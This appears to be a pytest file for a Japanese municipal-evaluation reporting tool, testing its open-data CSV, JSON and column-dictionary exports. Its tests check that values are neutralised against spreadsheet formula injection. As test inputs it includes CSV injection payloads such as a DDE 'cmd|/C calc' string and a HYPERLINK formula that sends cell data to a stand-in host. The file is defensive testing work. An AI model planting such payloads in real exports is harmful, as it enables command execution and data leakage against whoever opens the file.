"""The annex as open data: CSV for Excel (BOM, neutralised formulas), JSON, column dictionary."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tenken.core.assessment import assess
from tenken.csvsafe import GUARD_RULE, neutralize, to_csv
from tenken.report.opendata import annex_csv, column_dictionary, columns


def read_csv(path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_the_csv_has_a_bom_a_header_and_one_row_per_measure(final, fy2020):
    assessment, _ = fy2020
    rows = read_csv(final["csv"])
    header, body = rows[0], rows[1:]
    assert header[:2] == ["年度", "施策コード"] and "未達成の理由及び今後の見込み等" in header
    assert len(body) == 76
    by_key = {row[1]: dict(zip(header, row)) for row in body}
    assert by_key["I-1-ア-2"]["所属"] == "いのち・未来戦略本部室"
    assert by_key["I-1-ア-2"]["評価"] == "△"
    assert by_key["I-1-カ-1"]["規則による評価"] == "△" and by_key["I-1-カ-1"]["評価"] == "○"
    assert by_key["I-1-ウ-3"]["状況"] == "取組完了"
    assert [row[header.index("評価")] for row in body].count("◎") == 13


def test_cells_that_excel_would_run_as_formulas_are_neutralised(fy2020):
    assessment, _ = fy2020
    hostile = tuple(
        r.model_copy(update={"reason": "=HYPERLINK(\"http://example.com\")\n+1"}) if r.measure == "I-1-ア-2" else r
        for r in assessment.results.results)
    changed = assess(assessment.plan, assessment.results.model_copy(update={"results": hostile}))
    rows = list(csv.reader(io.StringIO(annex_csv(changed).lstrip("\ufeff"), newline="")))
    header = rows[0]
    reason = next(row for row in rows if row[1] == "I-1-ア-2")[header.index("未達成の理由及び今後の見込み等")]
    assert reason.startswith("'=HYPERLINK")


def test_the_json_and_the_column_dictionary_describe_the_same_columns(final, fy2020):
    assessment, _ = fy2020
    document = json.loads(final["json"].read_text(encoding="utf-8"))
    assert document["fiscal_year"] == 2020 and len(document["measures"]) == 76
    keys = [c.key for c in columns(assessment)]
    assert list(document["measures"][0]) == keys
    dictionary = read_csv(final["columns"])
    assert dictionary[0] == ["列名（CSV）", "キー（JSON）", "説明"]
    assert [row[1] for row in dictionary[1:-1]] == keys
    assert all(row[2] for row in dictionary[1:])
    assert dictionary[-1][1] == ""  # the closing note is not a column


def test_a_measure_result_round_trips_into_the_json(final):
    document = json.loads(final["json"].read_text(encoding="utf-8"))
    row = next(m for m in document["measures"] if m["key"] == "I-1-イ-1")
    assert row["actual"] == "(1)841,586PV (2)83,640PV" and row["rating"] == "△"


def annex_rows(assessment) -> tuple[list[str], dict[str, dict[str, str]]]:
    rows = list(csv.reader(io.StringIO(annex_csv(assessment).lstrip("\ufeff"), newline="")))
    return rows[0], {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}


def with_reason(assessment, key: str, reason: str):
    changed = tuple(r.model_copy(update={"reason": reason}) if r.measure == key else r
                    for r in assessment.results.results)
    return assess(assessment.plan, assessment.results.model_copy(update={"results": changed}))


def test_genuine_signed_values_of_the_kanagawa_annex_are_published_unchanged(final):
    rows = read_csv(final["csv"])
    row = next(dict(zip(rows[0], r)) for r in rows[1:] if r[1] == "I-3-イ-2")
    assert (row["目標"], row["実績"]) == ("+1%", "+1.6%(※)")
    assert not any(cell.startswith("'") for r in rows[1:] for cell in r)


@pytest.mark.parametrize("value", ["+1.6%(※)", "-3件", "+2.5ポイント", "-1,000人", "+1%", "-0.5", "−3件", "＋１．６％（※）",
                                   "+ 2件", "-", "+", "-3件(※)", "+1,234.5PV", "-5", "-1.5%", "+3", "-3件の減少"])
def test_genuine_values_are_published_unchanged(value):
    assert neutralize(value, keep_values=True) == value


@pytest.mark.parametrize("value", [
    "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", '+HYPERLINK("http://x.example/?"&A1)', "-SUM(1)", "+A1",
    "=1+1", "@SUM(1)", "\t=1", "\r=1", "- 実施", "-3件\n=cmd|' /C calc'!A0", "+1 A1:B2", "+1(※)&A1", "+1＋cmd｜x",
    "-1,,2", "+1\u202e", "-3件!A0", "+1;2", "-1+A1", "-実施", "--", "- ", "+-1", "-\n=1", "=-", "@",
])
def test_values_a_spreadsheet_would_run_stay_guarded(value):
    assert neutralize(value, keep_values=True) == "'" + value
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["+1%", "-3件", "-5", "+3", "-1.5%"])
def test_csv_sent_to_departments_keeps_guarding_every_sign_so_excel_round_trips_it(value):
    assert neutralize(value) == "'" + value
    assert to_csv(["目標"], [[value]]).splitlines()[1] == "'" + value


@pytest.mark.parametrize("value", ["-", "+"])
def test_a_lone_sign_is_text_to_every_spreadsheet_and_is_written_as_is_in_every_csv(value):
    assert neutralize(value) == neutralize(value, keep_values=True) == value
    assert to_csv(["実績"], [[value]]).splitlines()[1] == value
    assert to_csv(["実績"], [[value]], bom=True, keep_values=True).splitlines()[1] == value


def test_a_reason_that_starts_like_a_formula_is_guarded_in_the_annex_and_a_signed_one_is_not(fy2020):
    assessment, _ = fy2020
    _, by_key = annex_rows(with_reason(assessment, "I-1-ア-2", "-2+3+cmd|'/C calc'!A0"))
    assert by_key["I-1-ア-2"]["未達成の理由及び今後の見込み等"] == "'-2+3+cmd|'/C calc'!A0"
    _, by_key = annex_rows(with_reason(assessment, "I-1-ア-2", "-3件"))
    assert by_key["I-1-ア-2"]["未達成の理由及び今後の見込み等"] == "-3件"


def test_numbers_are_published_as_numbers(final):
    document = json.loads(final["json"].read_text(encoding="utf-8"))
    first = document["measures"][0]
    assert isinstance(first["fiscal_year"], int) and isinstance(first["number"], int)
    rows = read_csv(final["csv"])
    assert {r[0] for r in rows[1:]} == {"2020"} and all(r[rows[0].index("番号")].isdigit() for r in rows[1:])
    text = to_csv(["a", "b", "c"], [[-3, 2.5, "-3"]], keep_values=True)
    assert text.splitlines()[1] == "-3,2.5,-3"
    assert to_csv(["a"], [[-3]]).splitlines()[1] == "-3"  # a number is never prefixed


def test_the_json_carries_signed_and_formula_like_values_untouched(fy2020):
    from tenken.report.opendata import annex_json

    assessment, _ = fy2020
    document = json.loads(annex_json(with_reason(assessment, "I-1-ア-2", "=SUM(1)"), "別冊"))
    by_key = {m["key"]: m for m in document["measures"]}
    assert by_key["I-1-ア-2"]["reason"] == "=SUM(1)"
    assert (by_key["I-3-イ-2"]["target"], by_key["I-3-イ-2"]["actual"]) == ("+1%", "+1.6%(※)")


def test_the_column_dictionary_states_the_guard_rule(fy2020):
    assessment, _ = fy2020
    rows = list(csv.reader(io.StringIO(column_dictionary(assessment).lstrip("\ufeff"), newline="")))
    note = rows[-1]
    assert note[0].startswith("（注）") and note[2] == GUARD_RULE
    assert "+1.6%(※)" in GUARD_RULE and "「'」" in GUARD_RULE
